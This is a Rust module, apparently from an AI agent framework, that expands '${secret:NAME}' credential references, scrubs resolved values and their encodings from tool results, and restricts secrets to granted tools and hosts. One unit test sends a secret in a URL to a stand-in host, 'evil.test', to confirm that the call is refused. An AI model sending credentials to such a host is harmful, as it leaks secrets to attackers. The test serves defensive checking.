//! Secrets by reference: an upstream MCP server's `env` values, `bearer` and headers, and
//! `http_get`'s per-host headers, may say `${secret:NAME}` instead of holding a credential.
//! The reference is replaced only when it is used (the client connects, the request is sent):
//! from the environment variable `NAME`, else the file `NAME` in `$RAVI_SECRETS_DIR` (or
//! systemd's `$CREDENTIALS_DIRECTORY`). The configuration, the spec, `ravi tools` output,
//! traces and the journal only ever hold the reference. Whatever comes back (results, error
//! messages, a server's log lines) has every resolved value replaced by `[secret NAME]`, so a
//! server that echoes its credentials cannot hand them to the model.
//!
//! ```
//! use ravi_agents::secrets::{Redactor, expand};
//!
//! let mut redactor = Redactor::default();
//! let header = expand("Bearer ${secret:HOME}", &mut redactor).unwrap(); // $HOME, as a stand-in
//! let home = std::env::var("HOME").unwrap();
//! assert_eq!(header, format!("Bearer {home}"));
//! assert_eq!(redactor.redact(&format!("echo: {home}")), "echo: [secret HOME]");
//! ```
//!
//! Hand-written because it is a short string substitution with no format to get wrong; the
//! credential passes through nothing but this module and the transport.

use std::path::PathBuf;

use serde_json::Value;

/// The secrets resolved for one connection, to redact from what the server sends back.
#[derive(Debug, Clone, Default)]
pub struct Redactor {
    /// `(name, value)`, longest value first (so a value containing another is replaced whole).
    secrets: Vec<(String, String)>,
}

/// Values shorter than this are not redacted (replacing every `1` of a result would destroy
/// it and hide nothing).
const MIN_REDACTED: usize = 4;

impl Redactor {
    /// Whether there is nothing to redact.
    pub fn is_empty(&self) -> bool {
        self.secrets.is_empty()
    }

    /// Records `value` as secret `name`: the value itself and the forms a tool may hand it
    /// back in — base64 (standard and URL-safe, also inside a longer encoded text),
    /// URL-encoded, hex (either case).
    fn add(&mut self, name: &str, value: &str) {
        if value.len() < MIN_REDACTED {
            return;
        }
        for form in std::iter::once(value.to_owned()).chain(encoded_forms(value.as_bytes())) {
            if form.len() >= MIN_REDACTED && !self.secrets.iter().any(|(_, v)| *v == form) {
                self.secrets.push((name.to_owned(), form));
            }
        }
        self.secrets
            .sort_by_key(|(_, v)| std::cmp::Reverse(v.len()));
    }

    /// Every secret of `other` too.
    pub fn merge(&mut self, other: &Redactor) {
        for (name, value) in &other.secrets {
            if !self.secrets.iter().any(|(_, v)| v == value) {
                self.secrets.push((name.clone(), value.clone()));
            }
        }
        self.secrets
            .sort_by_key(|(_, v)| std::cmp::Reverse(v.len()));
    }

    /// `text` with every secret value replaced by `[secret NAME]`.
    pub fn redact(&self, text: &str) -> String {
        let mut out = text.to_owned();
        for (name, value) in &self.secrets {
            if out.contains(value.as_str()) {
                out = out.replace(value.as_str(), &format!("[secret {name}]"));
            }
        }
        out
    }

    /// Redacts every string (and object key) of `value` in place.
    pub fn redact_json(&self, value: &mut Value) {
        if self.is_empty() {
            return;
        }
        match value {
            Value::String(s) if self.secrets.iter().any(|(_, v)| s.contains(v.as_str())) => {
                *s = self.redact(s);
            }
            Value::Array(items) => items.iter_mut().for_each(|v| self.redact_json(v)),
            Value::Object(map) => {
                let keys: Vec<String> = map
                    .keys()
                    .filter(|k| self.secrets.iter().any(|(_, v)| k.contains(v.as_str())))
                    .cloned()
                    .collect();
                for k in keys {
                    if let Some(v) = map.remove(&k) {
                        map.insert(self.redact(&k), v);
                    }
                }
                map.values_mut().for_each(|v| self.redact_json(v));
            }
            _ => {}
        }
    }
}

/// The encodings of `value` a result could carry it in. Base64 is taken at each of the three
/// alignments a value can have inside a longer encoded text (`user:TOKEN` as basic auth), each
/// keeping only the characters the value alone determines.
fn encoded_forms(value: &[u8]) -> Vec<String> {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let mut forms = Vec::new();
    for engine in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
        for k in 0..3usize {
            let mut padded = vec![0u8; k];
            padded.extend_from_slice(value);
            let text = engine.encode(&padded);
            // Character i covers bits [6i, 6i + 6); the value's bytes bits [8k, 8(k + len)).
            let start = (8 * k).div_ceil(6);
            let end = (8 * (k + value.len())) / 6;
            if let Some(part) = text.get(start..end) {
                forms.push(part.to_owned());
            }
        }
    }
    let url = |upper: bool| -> String {
        value
            .iter()
            .map(|&b| match b {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                    (b as char).to_string()
                }
                _ if upper => format!("%{b:02X}"),
                _ => format!("%{b:02x}"),
            })
            .collect()
    };
    forms.push(url(true));
    forms.push(url(true).replace("%20", "+"));
    forms.push(url(false));
    let hex: String = value.iter().map(|b| format!("{b:02x}")).collect();
    forms.push(hex.to_uppercase());
    forms.push(hex);
    forms
}

/// `[secrets.NAME]`: the tools (and, for `http_get`, the hosts) a secret may be passed to by
/// reference in a call's arguments.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(deny_unknown_fields)]
#[non_exhaustive]
pub struct SecretGrant {
    /// Tool name patterns (`http_get`, `gh__*`).
    #[serde(default)]
    pub tools: Vec<crate::access::ToolPattern>,
    /// Host patterns an `http_get` call's URL must name (`api.github.com`, `*.example.com`);
    /// empty: `http_get` may not receive the secret.
    #[serde(default)]
    pub hosts: Vec<String>,
}

impl SecretGrant {
    /// A grant to `tools` and, for `http_get`, `hosts`.
    pub fn new<I, S>(tools: I, hosts: Vec<String>) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            tools: tools
                .into_iter()
                .map(|t| crate::access::ToolPattern::new(t))
                .collect(),
            hosts,
        }
    }
}

/// The secrets a call's arguments may name as `${secret:NAME}`, and to whom: the invoker
/// substitutes them after every policy check (conditions, approval) and just before the tool
/// runs, so the model, a script, approvals, traces and the journal only hold the placeholder;
/// what the tool returns is scrubbed of the value and its encodings.
#[derive(Debug, Clone, Default)]
pub struct SecretGrants {
    grants: std::collections::BTreeMap<String, SecretGrant>,
}

/// The placeholder's opening.
const OPEN: &str = "${secret:";

impl SecretGrants {
    /// The grants, by secret name.
    pub fn new(grants: std::collections::BTreeMap<String, SecretGrant>) -> Self {
        Self { grants }
    }

    /// Whether no secret is granted.
    pub fn is_empty(&self) -> bool {
        self.grants.is_empty()
    }

    /// Replaces each `${secret:NAME}` in the string values of `args` for a call of `tool`,
    /// returning what to scrub from its result; a secret not granted to `tool` (or, for
    /// `http_get`, to the URL's host) refuses the call, naming the secret and why.
    pub fn substitute(&self, tool: &str, args: &mut Value) -> Result<Redactor, String> {
        let mut redactor = Redactor::default();
        if !contains_placeholder(args) {
            return Ok(redactor);
        }
        let host = (tool == "http_get")
            .then(|| args.get("url").and_then(Value::as_str).map(url_host))
            .flatten();
        self.walk(tool, host.as_deref(), args, &mut redactor)?;
        Ok(redactor)
    }

    fn walk(
        &self,
        tool: &str,
        host: Option<&str>,
        value: &mut Value,
        redactor: &mut Redactor,
    ) -> Result<(), String> {
        match value {
            Value::String(text) if text.contains(OPEN) => {
                let mut rest = text.as_str();
                while let Some(at) = rest.find(OPEN) {
                    let after = &rest[at + OPEN.len()..];
                    let name = after.split('}').next().unwrap_or_default();
                    self.check(tool, host, name)?;
                    rest = after.get(name.len() + 1..).unwrap_or_default();
                }
                *text = expand(text, redactor)
                    .map_err(|e| format!("a secret in the arguments of `{tool}`: {e}"))?;
            }
            Value::Array(items) => {
                for v in items {
                    self.walk(tool, host, v, redactor)?;
                }
            }
            Value::Object(map) => {
                for v in map.values_mut() {
                    self.walk(tool, host, v, redactor)?;
                }
            }
            _ => {}
        }
        Ok(())
    }

    fn check(&self, tool: &str, host: Option<&str>, name: &str) -> Result<(), String> {
        let refuse = |why: String| {
            Err(format!(
                "the call passes ${{secret:{name}}} to `{tool}`, {why}; the call was refused \
                 and the secret was not used"
            ))
        };
        let Some(grant) = self.grants.get(name) else {
            return refuse(format!(
                "and no [secrets.{name}] grant names any tool; ask the operator to grant it"
            ));
        };
        if !grant.tools.iter().any(|p| p.matches(tool)) {
            let to: Vec<&str> = grant.tools.iter().map(|p| p.as_str()).collect();
            return refuse(format!(
                "which it is not granted to (granted to: {})",
                if to.is_empty() {
                    "no tool".into()
                } else {
                    to.join(", ")
                }
            ));
        }
        if tool == "http_get" {
            let Some(host) = host else {
                return refuse("whose URL names no host".into());
            };
            if !grant
                .hosts
                .iter()
                .any(|h| crate::access::ToolPattern::new(h.as_str()).matches(host))
            {
                return refuse(format!(
                    "for the host {host}, which it is not granted to (granted hosts: {})",
                    if grant.hosts.is_empty() {
                        "none".into()
                    } else {
                        grant.hosts.join(", ")
                    }
                ));
            }
        }
        Ok(())
    }
}

fn contains_placeholder(value: &Value) -> bool {
    match value {
        Value::String(s) => s.contains(OPEN),
        Value::Array(items) => items.iter().any(contains_placeholder),
        Value::Object(map) => map.values().any(contains_placeholder),
        _ => false,
    }
}

/// The host of an absolute URL (lowercase, without user info or port).
fn url_host(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = if host.starts_with('[') {
        host.split(']')
            .next()
            .map(|h| format!("{h}]"))
            .unwrap_or_default()
    } else {
        host.split(':').next().unwrap_or_default().to_owned()
    };
    host.to_ascii_lowercase()
}

/// Every secret value this process resolved so far, for [`redact_known`].
static KNOWN: std::sync::RwLock<Redactor> = std::sync::RwLock::new(Redactor {
    secrets: Vec::new(),
});

/// `text` with every secret value this process has resolved replaced by its name: for what
/// leaves the process without passing a connection's own [`Redactor`] (log lines).
pub fn redact_known(text: &str) -> std::borrow::Cow<'_, str> {
    match KNOWN.read() {
        Ok(known) if known.secrets.iter().any(|(_, v)| text.contains(v.as_str())) => {
            std::borrow::Cow::Owned(known.redact(text))
        }
        _ => std::borrow::Cow::Borrowed(text),
    }
}

/// Replaces every `${secret:NAME}` of `text`, recording each value in `redactor`. An unknown
/// secret is an error naming it (never a value).
pub fn expand(text: &str, redactor: &mut Redactor) -> Result<String, String> {
    const OPEN: &str = "${secret:";
    if !text.contains(OPEN) {
        return Ok(text.to_owned());
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(OPEN) {
        out.push_str(&rest[..at]);
        let after = &rest[at + OPEN.len()..];
        let Some(end) = after.find('}') else {
            return Err(format!(
                "`{}…` opens a secret reference that never closes (expected ${{secret:NAME}})",
                &rest[at..(at + OPEN.len() + 8).min(rest.len())]
            ));
        };
        let name = &after[..end];
        let value = lookup(name)?;
        redactor.add(name, &value);
        if let Ok(mut known) = KNOWN.write() {
            known.add(name, &value);
        }
        out.push_str(&value);
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

/// The value of secret `name`: the environment variable, else the file in the secrets
/// directory (one trailing newline dropped).
fn lookup(name: &str) -> Result<String, String> {
    if name.is_empty()
        || !name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-' || b == b'.')
    {
        return Err(format!(
            "secret name `{name}`: expected letters, digits, `_`, `-` or `.`"
        ));
    }
    if let Ok(v) = std::env::var(name) {
        return Ok(v);
    }
    let dirs: Vec<PathBuf> = ["RAVI_SECRETS_DIR", "CREDENTIALS_DIRECTORY"]
        .iter()
        .filter_map(std::env::var_os)
        .map(PathBuf::from)
        .collect();
    from_files(name, &dirs)
}

/// The secret `name` from the first of `dirs` holding a file of that name.
fn from_files(name: &str, dirs: &[PathBuf]) -> Result<String, String> {
    for dir in dirs {
        if let Ok(text) = std::fs::read_to_string(dir.join(name)) {
            let text = text.strip_suffix('\n').unwrap_or(&text);
            return Ok(text.strip_suffix('\r').unwrap_or(text).to_owned());
        }
    }
    Err(format!(
        "secret `{name}` is not set: define the environment variable {name}, or put it in the \
         file {name} of $RAVI_SECRETS_DIR"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn references_expand_and_values_are_redacted() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("TOKEN"), "from-file-value\r\n").unwrap();
        let dirs = [dir.path().join("missing"), dir.path().to_owned()];
        assert_eq!(from_files("TOKEN", &dirs).unwrap(), "from-file-value");
        assert!(
            from_files("OTHER", &dirs)
                .unwrap_err()
                .contains("RAVI_SECRETS_DIR")
        );
        let mut r = Redactor::default();
        let err = expand("Bearer ${secret:RAVI_TEST_UNSET_SECRET}", &mut r).unwrap_err();
        assert!(
            err.contains("secret `RAVI_TEST_UNSET_SECRET` is not set"),
            "{err}"
        );
        assert!(
            expand("${secret:a b}", &mut r)
                .unwrap_err()
                .contains("expected letters")
        );
        assert!(
            expand("${secret:X", &mut r)
                .unwrap_err()
                .contains("never closes")
        );
        assert_eq!(expand("plain", &mut r).unwrap(), "plain");
        let path = std::env::var("PATH").unwrap();
        let expanded = expand("p=${secret:PATH};", &mut r).unwrap();
        assert_eq!(expanded, format!("p={path};"));
        let mut v =
            json!({"text": format!("env PATH={path}"), "n": 1, path.clone(): [path.clone()]});
        r.redact_json(&mut v);
        assert_eq!(v["text"], "env PATH=[secret PATH]");
        assert_eq!(v["[secret PATH]"][0], "[secret PATH]");
        assert!(!v.to_string().contains(&path));
    }

    #[test]
    fn short_values_are_not_redacted() {
        let mut r = Redactor::default();
        r.add("N", "1");
        assert!(r.is_empty());
        r.add("A", "abcd");
        r.add("B", "abcdef");
        assert_eq!(r.redact("abcdef abcd"), "[secret B] [secret A]");
    }

    #[test]
    fn every_encoding_of_a_value_is_scrubbed() {
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD, URL_SAFE};
        let mut r = Redactor::default();
        r.add("TOK", "s3cr3t/v@lue+Z");
        let v = "s3cr3t/v@lue+Z";
        let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();
        for leaked in [
            v.to_owned(),
            STANDARD.encode(v),
            URL_SAFE.encode(v),
            STANDARD.encode(format!("user:{v}")),
            STANDARD.encode(format!("ab:{v}:tail")),
            "s3cr3t%2Fv%40lue%2BZ".to_owned(),
            "s3cr3t%2fv%40lue%2bz".replace("z", "Z"),
            hex.clone(),
            hex.to_uppercase(),
        ] {
            let out = r.redact(&format!("echo: {leaked} end"));
            assert!(out.contains("[secret TOK]"), "{leaked} -> {out}");
            assert!(!out.contains(&leaked), "{leaked} -> {out}");
        }
    }

    #[test]
    fn grants_substitute_only_for_granted_tools_and_hosts() {
        // SAFETY-free stand-in: HOME is always set in the test environment.
        let home = std::env::var("HOME").unwrap();
        let grants = SecretGrants::new(
            [(
                "HOME".to_owned(),
                SecretGrant::new(
                    ["http_get", "gh__*"],
                    vec!["api.github.com".into(), "*.example.com".into()],
                ),
            )]
            .into_iter()
            .collect(),
        );
        let mut args = json!({"url": "https://api.github.com/user?t=${secret:HOME}"});
        let r = grants.substitute("http_get", &mut args).unwrap();
        assert_eq!(args["url"], format!("https://api.github.com/user?t={home}"));
        assert_eq!(r.redact(&format!("x{home}x")), "x[secret HOME]x");
        let mut args = json!({"url": "https://x.example.com:8443/a", "h": ["${secret:HOME}"]});
        assert!(grants.substitute("http_get", &mut args).is_ok());
        let mut args = json!({"body": {"token": "${secret:HOME}"}});
        assert!(grants.substitute("gh__create_issue", &mut args).is_ok());
        assert_eq!(args["body"]["token"], home);
        let err = grants
            .substitute(
                "http_get",
                &mut json!({"url": "https://evil.test/?t=${secret:HOME}"}),
            )
            .unwrap_err();
        assert!(
            err.contains("host evil.test") && err.contains("${secret:HOME}"),
            "{err}"
        );
        let err = grants
            .substitute("shell", &mut json!({"command": "echo ${secret:HOME}"}))
            .unwrap_err();
        assert!(
            err.contains("not granted to (granted to: http_get, gh__*)"),
            "{err}"
        );
        let err = grants
            .substitute(
                "http_get",
                &mut json!({"url": "https://api.github.com/${secret:OTHER}"}),
            )
            .unwrap_err();
        assert!(err.contains("no [secrets.OTHER] grant"), "{err}");
        let mut plain = json!({"url": "https://evil.test/"});
        assert!(
            grants
                .substitute("http_get", &mut plain)
                .unwrap()
                .is_empty()
        );
        assert_eq!(url_host("http://u:p@[::1]:80/x"), "[::1]");
        assert_eq!(url_host("HTTPS://API.github.com?x"), "api.github.com");
    }
}
